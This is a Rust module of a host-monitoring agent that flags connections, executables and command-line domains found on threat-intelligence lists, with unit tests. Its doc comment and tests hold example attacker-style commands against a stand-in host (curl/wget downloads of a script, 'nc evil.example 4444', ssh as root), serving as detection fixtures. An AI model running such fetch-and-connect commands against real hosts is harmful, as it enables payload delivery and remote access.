//! Threat intelligence: IoC lists (`--ioc PATH`, `[detect] ioc = [...]`)
//! and the alerts they raise.
//!
//! - `ioc-connection`: a connect or accept with a listed address (exact or
//!   in a listed CIDR) at the remote end, or at the local end of an accept.
//! - `ioc-executable`: an exec of a file whose SHA-256 is listed. The hash is
//!   computed off the event path ([`hasher`]): a cached file is judged at
//!   its exec; a new one when its hash comes back (within a tick), the alert
//!   then carrying the exec event with its `sha256`.
//! - `ioc-domain`: we do not see DNS, so a listed domain is looked for where
//!   the agent does see names: in an exec's arguments (a URL's host, a
//!   `user@host`, or an argument that is a host name: `curl evil.example/x`,
//!   `wget`, `nc evil.example 4444`, `ssh u@evil.example`); a subdomain of a
//!   listed domain matches.
//!
//! Lists are parsed by [`list`]; each file is a set of its own, so an alert
//! names the list that matched. The files are polled (`stat`: device, inode,
//! size, mtime) every `reload_interval` from `tick`; a changed file is
//! parsed again on a thread of its own and swapped in when done (the event
//! path never waits for a parse); SIGHUP rebuilds the stage, which reads
//! them all again. A file that cannot be read on reload keeps its old
//! entries (logged); a malformed line is counted, reported with its line
//! number, and the rest loads.

pub mod cli;
pub mod hasher;
pub mod list;

use std::{
    collections::BTreeMap,
    net::IpAddr,
    path::{Path, PathBuf},
    sync::mpsc::{self, Receiver},
    time::Duration,
};

use chrono::{DateTime, Utc};

pub use hasher::{ExeHasher, HashStats};
pub use list::{Counts, IocSet};

use super::{
    Alert, DetectConfig, DetectError, DetectStats, Detector, Severity,
    builtin::{Rule, exec_path},
};
use crate::events::{Body, Event, Kind};

pub const CONNECTION: Rule = Rule {
    id: "ioc-connection",
    title: "Connection with an address on a threat-intelligence list",
    severity: Severity::High,
    tags: &["attack.command_and_control", "attack.t1071"],
    description: "The address is on an IoC list loaded with --ioc (a botnet C2, a scanner, a malware host...). \
        Every attempt is reported, failed ones too (a refused connect to a C2 still shows an infected process); \
        a non-blocking connect once, at its attempt.",
    remediation: "Identify the process and how it got here (its parent, the user, when it was installed). If it \
        is not legitimate traffic to an address wrongly listed, isolate the device, block the address and \
        investigate the process's executable.",
};

pub const EXECUTABLE: Rule = Rule {
    id: "ioc-executable",
    title: "Executable with a SHA-256 on a threat-intelligence list",
    severity: Severity::Critical,
    tags: &["attack.execution", "attack.t1204.002"],
    description: "The file the process runs (read through /proc/PID/exe, so a file deleted or replaced since \
        is still the one that ran) has a SHA-256 listed in an IoC list loaded with --ioc.",
    remediation: "Kill the process, keep a copy of the file for analysis, find how it got on the device \
        (downloads, logins, the parent process) and treat the device as compromised.",
};

pub const DOMAIN: Rule = Rule {
    id: "ioc-domain",
    title: "Command line naming a domain on a threat-intelligence list",
    severity: Severity::Medium,
    tags: &["attack.command_and_control", "attack.t1105"],
    description: "An argument of the command names a domain (or a subdomain of one) listed in an IoC list \
        loaded with --ioc: a download or a connection by name. DNS itself is not seen, so a program that \
        resolves a listed name on its own (without it on its command line) is not reported here; its \
        connection is, when the address is listed.",
    remediation: "Check what the command fetched or where it connected, and what started it.",
};

/// The IoC settings (`[detect]` keys `ioc`, `hash_executables`,
/// `hash_max_size`, `hash_rate`, `ioc_reload_interval`).
#[derive(Clone, Debug, PartialEq)]
pub struct IocConfig {
    /// List files.
    pub lists: Vec<PathBuf>,
    /// Hash executables: on, off, or (None) when a loaded list has SHA-256s.
    pub hash_executables: Option<bool>,
    /// Files larger than this are not hashed (flagged `too_large`).
    pub hash_max_size: u64,
    /// Bytes a second the hashing thread reads at most.
    pub hash_rate: u64,
    /// How often the list files are checked for changes.
    pub reload_interval: Duration,
}

impl Default for IocConfig {
    fn default() -> Self {
        IocConfig {
            lists: Vec::new(),
            hash_executables: None,
            hash_max_size: 64 << 20,
            hash_rate: 32 << 20,
            reload_interval: Duration::from_secs(10),
        }
    }
}

/// Counters of the IoC detector (`detect.ioc` in the stats).
#[derive(Clone, Debug, Default, PartialEq, serde::Serialize)]
pub struct IocStats {
    pub files: u64,
    /// Entries loaded, by type, and malformed lines, over every file.
    pub loaded: Counts,
    pub reloads: u64,
    pub reload_errors: u64,
    pub hashing: bool,
    pub hash: HashStats,
}

/// What identifies a version of a list file (polled for changes).
type Stamp = (u64, u64, u64, (i64, i64));

fn stamp(p: &Path) -> std::io::Result<Stamp> {
    use std::os::unix::fs::MetadataExt;
    let m = std::fs::metadata(p)?;
    Ok((m.dev(), m.ino(), m.size(), (m.mtime(), m.mtime_nsec())))
}

struct List {
    path: PathBuf,
    stamp: Option<Stamp>,
    set: IocSet,
}

/// A reload under way: which list, the stamp read before parsing, the result.
type Reloaded = (usize, Option<Stamp>, std::io::Result<IocSet>);

/// The detector.
pub struct Ioc {
    lists: Vec<List>,
    hasher: Option<ExeHasher>,
    connection: bool,
    executable: bool,
    domain: bool,
    reload_every: chrono::Duration,
    next_check: Option<DateTime<Utc>>,
    reloading: Option<Receiver<Reloaded>>,
    stats: IocStats,
    /// Execs whose hash came back, to judge.
    hashed: Vec<Event>,
}

/// The detector, when lists are given or hashing is asked for.
pub fn load(cfg: &DetectConfig) -> Result<Option<Ioc>, DetectError> {
    let c = &cfg.ioc;
    let on = |r: &Rule| !cfg.is_disabled(r.id);
    if (c.lists.is_empty() && c.hash_executables != Some(true))
        || !(on(&CONNECTION) || on(&EXECUTABLE) || on(&DOMAIN))
    {
        return Ok(None);
    }
    let mut lists = Vec::new();
    for p in &c.lists {
        let st = stamp(p).ok();
        let set = IocSet::load(p).map_err(|e| DetectError::Invalid {
            setting: "ioc".into(),
            reason: format!("{}: {e}", p.display()),
        })?;
        report(p, &set);
        lists.push(List { path: p.clone(), stamp: st, set });
    }
    let has_hashes = lists.iter().any(|l| l.set.has_hashes());
    let hashing = c.hash_executables.unwrap_or(has_hashes && on(&EXECUTABLE));
    let hasher = if hashing {
        Some(ExeHasher::new(&cfg.proc_root, c.hash_max_size, c.hash_rate).map_err(|e| {
            DetectError::Invalid {
                setting: "hash_executables".into(),
                reason: format!("cannot start the hashing thread: {e}"),
            }
        })?)
    } else {
        None
    };
    let mut d = Ioc {
        lists,
        hasher,
        connection: on(&CONNECTION),
        executable: on(&EXECUTABLE),
        domain: on(&DOMAIN),
        reload_every: chrono::Duration::from_std(c.reload_interval).unwrap_or(chrono::Duration::seconds(10)),
        next_check: None,
        reloading: None,
        stats: IocStats { hashing, ..IocStats::default() },
        hashed: Vec::new(),
    };
    d.count();
    let total = d.stats.loaded;
    tracing::info!(
        files = d.lists.len(),
        entries = total.entries(),
        malformed = total.malformed,
        hashing,
        "IoC lists loaded"
    );
    Ok(Some(d))
}

/// Logs a file's counts and its first malformed lines (`file:line: why`).
fn report(p: &Path, set: &IocSet) {
    for (line, why) in &set.malformed {
        tracing::warn!("IoC list {}:{line}: {why} (line skipped)", p.display());
    }
    if set.counts.malformed > set.malformed.len() as u64 {
        tracing::warn!(
            "IoC list {}: {} malformed lines in all (the first {} shown)",
            p.display(),
            set.counts.malformed,
            set.malformed.len()
        );
    }
    tracing::debug!(file = %p.display(), counts = ?set.counts, "IoC list parsed");
}

impl Ioc {
    fn count(&mut self) {
        let mut c = Counts::default();
        for l in &self.lists {
            c.add(&l.set.counts);
        }
        self.stats.loaded = c;
        self.stats.files = self.lists.len() as u64;
    }

    /// The first list holding `ip`.
    fn ip_listed(&self, ip: IpAddr) -> Option<&Path> {
        self.lists.iter().find(|l| l.set.contains_ip(ip)).map(|l| l.path.as_path())
    }

    fn judge_hash(&self, ev: &Event, out: &mut Vec<Alert>) {
        let Body::Exec(x) = &ev.body else { return };
        let Some(hex) = &x.sha256 else { return };
        let Some(list::Entry::Sha256(h)) = list::classify(hex) else { return };
        let Some(l) = self.lists.iter().find(|l| l.set.contains_sha256(&h)) else { return };
        let path = exec_path(ev, x);
        let mut details = BTreeMap::new();
        details.insert("executable", path.to_owned());
        details.insert("sha256", hex.clone());
        details.insert("ioc_list", l.path.display().to_string());
        out.push(EXECUTABLE.alert(
            ev,
            EXECUTABLE.severity,
            format!(
                "Process {} executed {path}, whose SHA-256 {hex} is listed in {}.",
                ev.pid,
                l.path.display()
            ),
            details,
        ));
    }

    fn judge_sock(&self, ev: &Event, out: &mut Vec<Alert>) {
        let (s, accept) = match &ev.body {
            Body::Connect(s) => (s, false),
            Body::Accept(s) => (s, true),
            _ => return,
        };
        // A non-blocking connect was judged at its attempt; its later
        // outcome event would only repeat the alert.
        if s.async_outcome {
            return;
        }
        let ends = [
            ("remote", s.remote_addr, s.remote_port),
            ("local", s.local_addr.filter(|_| accept), s.local_port),
        ];
        for (end, addr, port) in ends {
            let Some(addr) = addr.filter(|a| !a.is_unspecified()) else { continue };
            let Some(l) = self.ip_listed(addr) else { continue };
            let mut details = BTreeMap::new();
            details.insert("address", addr.to_string());
            if let Some(p) = port {
                details.insert("port", p.to_string());
            }
            details.insert("end", end.to_owned());
            details.insert("direction", if accept { "inbound" } else { "outbound" }.to_owned());
            details.insert("status", s.status.to_owned());
            details.insert("ioc_list", l.display().to_string());
            let what = if accept {
                format!("Process {} accepted a connection ({end} address {addr})", ev.pid)
            } else {
                format!("Process {} connected to {addr}", ev.pid)
            };
            out.push(CONNECTION.alert(
                ev,
                CONNECTION.severity,
                format!("{what}, an address listed in {} (status {}).", l.display(), s.status),
                details,
            ));
            return;
        }
    }

    fn judge_domains(&self, ev: &Event, out: &mut Vec<Alert>) {
        let Body::Exec(x) = &ev.body else { return };
        if !x.success || !self.lists.iter().any(|l| l.set.has_domains()) {
            return;
        }
        for arg in x.argv.iter().skip(1) {
            let Some(host) = arg_host(arg) else { continue };
            for l in &self.lists {
                if let Some(listed) = l.set.match_domain(&host) {
                    let mut details = BTreeMap::new();
                    details.insert("domain", listed.to_owned());
                    details.insert("argument", arg.chars().take(256).collect());
                    details.insert("ioc_list", l.path.display().to_string());
                    out.push(DOMAIN.alert(
                        ev,
                        DOMAIN.severity,
                        format!(
                            "Process {} ran {} with an argument naming {listed}, a domain listed in {}.",
                            ev.pid,
                            exec_path(ev, x),
                            l.path.display()
                        ),
                        details,
                    ));
                    return;
                }
            }
        }
    }

    fn drain(&mut self, out: &mut Vec<Alert>) {
        let Some(h) = &mut self.hasher else { return };
        h.drain(&mut self.hashed);
        if self.hashed.is_empty() {
            return;
        }
        let evs = std::mem::take(&mut self.hashed);
        if self.executable {
            for ev in &evs {
                self.judge_hash(ev, out);
            }
        }
        self.hashed = evs;
        self.hashed.clear();
    }

    /// Polls the files; starts a reload of the changed ones; swaps in a
    /// finished one.
    fn poll_lists(&mut self, now: DateTime<Utc>) {
        if let Some(rx) = &self.reloading {
            match rx.try_recv() {
                Ok((i, st, res)) => {
                    self.reloading = None;
                    let l = &mut self.lists[i];
                    match res {
                        Ok(set) => {
                            report(&l.path, &set);
                            tracing::info!(file = %l.path.display(), counts = ?set.counts, "IoC list reloaded");
                            l.set = set;
                            l.stamp = st;
                            self.stats.reloads += 1;
                            self.count();
                        }
                        Err(e) => {
                            tracing::warn!(
                                "IoC list {}: {e} (the entries loaded before stay)",
                                l.path.display()
                            );
                            l.stamp = st;
                            self.stats.reload_errors += 1;
                        }
                    }
                    // Another changed file is looked at at once.
                    self.next_check = Some(now);
                }
                Err(mpsc::TryRecvError::Empty) => return,
                Err(mpsc::TryRecvError::Disconnected) => self.reloading = None,
            }
        }
        if self.next_check.is_some_and(|t| now < t) {
            return;
        }
        self.next_check = Some(now + self.reload_every);
        for (i, l) in self.lists.iter_mut().enumerate() {
            let st = stamp(&l.path).ok();
            if st == l.stamp {
                continue;
            }
            if st.is_none() {
                tracing::warn!("IoC list {} is gone (the entries loaded before stay)", l.path.display());
                l.stamp = None;
                self.stats.reload_errors += 1;
                continue;
            }
            let (tx, rx) = mpsc::channel();
            let path = l.path.clone();
            let spawned = std::thread::Builder::new().name("shrike-ioc-load".into()).spawn(move || {
                let res = IocSet::load(&path);
                let _ = tx.send((i, st, res));
            });
            if spawned.is_ok() {
                self.reloading = Some(rx);
            }
            return;
        }
    }
}

/// The host an argument names, lowercase: a URL's host, `user@host[:path]`,
/// or the argument itself up to its first `/` or `:` when that is a domain.
fn arg_host(arg: &str) -> Option<String> {
    let a = arg.trim();
    let rest = match a.find("://") {
        Some(i) => &a[i + 3..],
        None if a.starts_with('-') => a.split_once('=').map(|(_, v)| v)?,
        None => a,
    };
    let auth = rest.split(['/', '?', '#']).next()?;
    let auth = auth.rsplit_once('@').map_or(auth, |(_, h)| h);
    let host = auth.split(':').next()?;
    if !host.contains('.') || host.len() < 4 {
        return None;
    }
    list::domain(host)
}

impl Detector for Ioc {
    fn id(&self) -> &'static str {
        "ioc"
    }

    fn kinds(&self) -> &'static [Kind] {
        &[Kind::Exec, Kind::Connect, Kind::Accept]
    }

    fn annotate(&mut self, ev: &mut Event) {
        if let Some(h) = &mut self.hasher {
            h.annotate(ev);
        }
    }

    fn observe(&mut self, ev: &Event, out: &mut Vec<Alert>) {
        self.drain(out);
        match &ev.body {
            Body::Exec(_) => {
                if self.executable {
                    self.judge_hash(ev, out);
                }
                if self.domain {
                    self.judge_domains(ev, out);
                }
            }
            Body::Connect(_) | Body::Accept(_) if self.connection => self.judge_sock(ev, out),
            _ => {}
        }
    }

    fn tick(&mut self, now: DateTime<Utc>, out: &mut Vec<Alert>) {
        self.drain(out);
        self.poll_lists(now);
    }

    fn report(&self, stats: &mut DetectStats) {
        let mut s = self.stats.clone();
        if let Some(h) = &self.hasher {
            s.hash = h.stats;
        }
        stats.ioc = Some(s);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detect::builtin::testing::*;

    fn detector(s: &Scratch, lists: &[&str]) -> Ioc {
        let mut cfg = s.config();
        cfg.ioc.lists = lists.iter().map(|l| s.0.join(l)).collect();
        load(&cfg).unwrap().unwrap()
    }

    fn rules(alerts: &[Alert]) -> Vec<&str> {
        alerts.iter().map(|a| &*a.rule).collect()
    }

    #[test]
    fn connections_to_and_from_listed_addresses() {
        let s = Scratch::new("ioc-conn");
        s.write("c2.txt", "127.0.0.0/24\n2001:db8::/32\n203.0.113.5\n");
        let mut d = detector(&s, &["c2.txt"]);
        let mut failed = connect(2.0, 12, "203.0.113.5", 443);
        if let Body::Connect(c) = &mut failed.body {
            c.status = "refused";
        }
        // The outcome event of a non-blocking connect already judged.
        let mut outcome = connect(7.0, 10, "127.0.0.2", 80);
        if let Body::Connect(c) = &mut outcome.body {
            c.async_outcome = true;
        }
        let alerts = run(
            &mut d,
            &[
                connect(0.0, 10, "127.0.0.2", 80),
                connect(1.0, 11, "127.0.1.2", 80),
                failed,
                connect(3.0, 13, "2001:db8::7", 22),
                connect(4.0, 14, "::ffff:127.0.0.9", 22),
                accept(5.0, 15, 22, "198.51.100.1"),
                accept(6.0, 16, 22, "127.0.0.77"),
                outcome,
            ],
        );
        let pids: Vec<u32> = alerts.iter().map(|a| a.event.pid).collect();
        assert_eq!(pids, [10, 12, 13, 14, 16]);
        assert!(rules(&alerts).iter().all(|r| *r == "ioc-connection"));
        let a = &alerts[0];
        assert_eq!(a.details["address"], "127.0.0.2");
        assert_eq!(a.details["end"], "remote");
        assert!(a.details["ioc_list"].ends_with("c2.txt"));
        assert_eq!(alerts[1].details["status"], "refused");
        assert_eq!(alerts[4].details["direction"], "inbound");

        // The local end of an accept: our own address listed.
        s.write("local.txt", "10.9.9.9\n");
        let mut d = detector(&s, &["local.txt"]);
        let mut ev = accept(0.0, 20, 22, "198.51.100.1");
        if let Body::Accept(a) = &mut ev.body {
            a.local_addr = Some("10.9.9.9".parse().unwrap());
        }
        let alerts = run(&mut d, &[ev, connect(1.0, 21, "198.51.100.1", 1)]);
        assert_eq!(alerts.len(), 1);
        assert_eq!(alerts[0].details["end"], "local");
    }

    #[test]
    fn listed_hashes_fire_when_the_hash_comes_back() {
        let s = Scratch::new("ioc-exe");
        let bad = s.write("bin/bad", "#!/bin/sh\necho bad\n");
        let good = s.write("bin/good", "#!/bin/sh\necho good\n");
        use sha2::Digest;
        let h = hasher::hex(&sha2::Sha256::digest(b"#!/bin/sh\necho bad\n").into());
        s.write("hashes.txt", &format!("# bazaar\n{h}\n"));
        s.link("50/exe", bad.to_str().unwrap());
        s.link("51/exe", good.to_str().unwrap());
        let mut d = detector(&s, &["hashes.txt"]);
        assert!(d.hasher.is_some(), "a list with hashes switches hashing on");
        let mut out = Vec::new();
        for (pid, p) in [(50, &bad), (51, &good)] {
            let mut ev = exec(0.0, pid, 1, p.to_str().unwrap(), &["x"]);
            d.annotate(&mut ev);
            d.observe(&ev, &mut out);
        }
        assert!(out.is_empty(), "misses are judged when hashed");
        for i in 0..300 {
            d.tick(t(f64::from(i) * 0.01), &mut out);
            if d.hasher.as_ref().unwrap().pending() == 0 {
                break;
            }
            std::thread::sleep(Duration::from_millis(10));
        }
        d.tick(t(5.0), &mut out);
        assert_eq!(rules(&out), ["ioc-executable"]);
        assert_eq!(out[0].event.pid, 50);
        assert_eq!(out[0].details["sha256"], h);
        let Body::Exec(x) = &out[0].event.body else { panic!() };
        assert_eq!(x.sha256.as_deref(), Some(h.as_str()), "the alert's exec carries its hash");

        // The next exec of the same file: cached, judged at once.
        out.clear();
        let mut ev = exec(6.0, 50, 1, bad.to_str().unwrap(), &["x"]);
        d.annotate(&mut ev);
        d.observe(&ev, &mut out);
        assert_eq!(rules(&out), ["ioc-executable"]);
        let mut stats = DetectStats::default();
        d.report(&mut stats);
        let st = stats.ioc.unwrap();
        assert_eq!((st.hash.hashed, st.hash.cache_hits, st.loaded.sha256), (2, 1, 1));
    }

    #[test]
    fn domains_in_arguments() {
        let s = Scratch::new("ioc-dom");
        s.write("d.txt", "evil.example\n");
        let mut d = detector(&s, &["d.txt"]);
        let alerts = run(
            &mut d,
            &[
                exec(0.0, 1, 1, "/usr/bin/curl", &["curl", "-o", "/tmp/x", "http://cdn.Evil.example:8080/x"]),
                exec(0.0, 2, 1, "/usr/bin/wget", &["wget", "evil.example/a.sh"]),
                exec(0.0, 3, 1, "/usr/bin/ssh", &["ssh", "root@evil.example"]),
                exec(0.0, 4, 1, "/usr/bin/curl", &["curl", "--url=https://evil.example/"]),
                exec(0.0, 5, 1, "/usr/bin/curl", &["curl", "https://notevil.example/evil.example"]),
                exec(0.0, 6, 1, "/usr/bin/cat", &["cat", "evil.example.txt"]),
                exec(0.0, 7, 1, "/usr/bin/evil.example", &["evil.example"]),
            ],
        );
        let pids: Vec<u32> = alerts.iter().map(|a| a.event.pid).collect();
        assert_eq!(pids, [1, 2, 3, 4]);
        assert_eq!(alerts[0].details["domain"], "evil.example");
        assert!(rules(&alerts).iter().all(|r| *r == "ioc-domain"));
    }

    #[test]
    fn a_changed_list_is_reloaded_from_tick() {
        let s = Scratch::new("ioc-reload");
        let p = s.write("l.txt", "192.0.2.1\n");
        let mut d = detector(&s, &["l.txt"]);
        let mut out = Vec::new();
        d.tick(t(0.0), &mut out);
        assert!(run(&mut d, &[connect(0.0, 1, "192.0.2.2", 80)]).is_empty());
        std::fs::write(&p, "192.0.2.1\n192.0.2.2\nbad line here\n").unwrap();
        d.tick(t(5.0), &mut out);
        assert!(d.reloading.is_none(), "not polled before the interval");
        d.tick(t(10.5), &mut out);
        for _ in 0..200 {
            if d.reloading.is_none() {
                break;
            }
            std::thread::sleep(Duration::from_millis(10));
            d.tick(t(10.6), &mut out);
        }
        assert_eq!(run(&mut d, &[connect(11.0, 2, "192.0.2.2", 80)]).len(), 1);
        assert_eq!((d.stats.reloads, d.stats.loaded.malformed, d.stats.loaded.ipv4), (1, 1, 2));
        // A file removed keeps its entries.
        std::fs::remove_file(&p).unwrap();
        d.tick(t(30.0), &mut out);
        assert_eq!(run(&mut d, &[connect(31.0, 3, "192.0.2.2", 80)]).len(), 1);
        assert_eq!(d.stats.reload_errors, 1);
        assert!(out.is_empty());
    }

    #[test]
    fn missing_file_is_a_setting_error_and_disabled_rules_stay_quiet() {
        let s = Scratch::new("ioc-cfg");
        let mut cfg = s.config();
        cfg.ioc.lists = vec![s.0.join("nope.txt")];
        assert!(matches!(load(&cfg), Err(DetectError::Invalid { .. })));
        s.write("l.txt", "127.0.0.1\n");
        cfg.ioc.lists = vec![s.0.join("l.txt")];
        cfg.disabled.insert("ioc-connection".into());
        let mut d = load(&cfg).unwrap().unwrap();
        assert!(d.hasher.is_none(), "no hashes listed: no hashing");
        assert!(run(&mut d, &[connect(0.0, 1, "127.0.0.1", 1)]).is_empty());
        assert!(load(&s.config()).unwrap().is_none(), "no lists: no detector");
    }
}
